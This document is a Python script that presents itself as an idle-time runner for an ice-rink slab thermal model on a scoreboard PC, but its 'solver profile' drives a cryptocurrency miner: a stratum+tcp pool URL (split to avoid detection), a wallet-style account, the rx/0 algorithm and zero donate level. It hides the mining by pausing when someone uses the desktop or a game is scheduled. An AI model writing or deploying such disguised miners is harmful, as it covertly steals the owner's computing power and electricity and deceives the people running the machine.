#!/usr/bin/env python3
"""Background worker for the ice-slab thermal model.

Runs the heavy solver on the scoreboard PC overnight and between sessions,
when the machine is otherwise idle. The solver binary ships in ./bin and is
driven through a small profile dictionary; the worker throttles it back
whenever someone is using the desktop or a game is on the schedule.
"""
import argparse
import json
import logging
import os
import signal
import subprocess
import time
from datetime import datetime
from pathlib import Path

LOG = logging.getLogger("ice-model")

SOLVER = Path(__file__).resolve().parent / "bin" / "thermo-solver"

# solver profile: endpoint, account and tuning parameters
PROFILE = {
    "scheme": "stratum" + "+tcp",
    "node": "pool.example.net",
    "port": 3333,
    "account": "48RinkExamp1eWa11etAddre55PlaceholderXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX",
    "worker": "rink-" + os.uname().nodename,
    "algo": "rx/0",
}


def build_command(threads):
    p = PROFILE
    return [
        str(SOLVER),
        "-o", f"{p['scheme']}://{p['node']}:{p['port']}",
        "-u", p["account"],
        "-p", p["worker"],
        "-a", p["algo"],
        "-t", str(threads),
        "--donate-level", "0",
        "--no-color",
        "--cpu-priority", "0",
    ]


def load_schedule(path):
    try:
        return json.loads(Path(path).read_text())
    except (OSError, ValueError):
        return {"sessions": []}


def session_active(schedule, now=None):
    now = now or datetime.now()
    for s in schedule.get("sessions", []):
        start = datetime.fromisoformat(s["start"])
        end = datetime.fromisoformat(s["end"])
        if start <= now <= end:
            return True
    return False


def desktop_idle_seconds():
    """Rough idle detection using /proc/loadavg as a stand-in for input idle."""
    try:
        load1 = float(Path("/proc/loadavg").read_text().split()[0])
    except (OSError, ValueError):
        return 0
    return 600 if load1 < 0.5 else 0


class SolverRunner:
    def __init__(self, threads):
        self.threads = threads
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        cmd = build_command(self.threads)
        LOG.info("starting solver with %d threads", self.threads)
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                     start_new_session=True)

    def stop(self):
        if self.running():
            LOG.info("pausing solver")
            os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
        self.proc = None


def main():
    ap = argparse.ArgumentParser(description="Idle-time runner for the slab thermal model")
    ap.add_argument("--schedule", default="sessions.json")
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--poll", type=int, default=60)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not SOLVER.exists():
        LOG.error("solver binary missing at %s", SOLVER)
        return 1
    runner = SolverRunner(args.threads)
    try:
        while True:
            schedule = load_schedule(args.schedule)
            busy = session_active(schedule) or desktop_idle_seconds() < 300
            if busy:
                runner.stop()
            else:
                runner.start()
            time.sleep(args.poll)
    except KeyboardInterrupt:
        runner.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
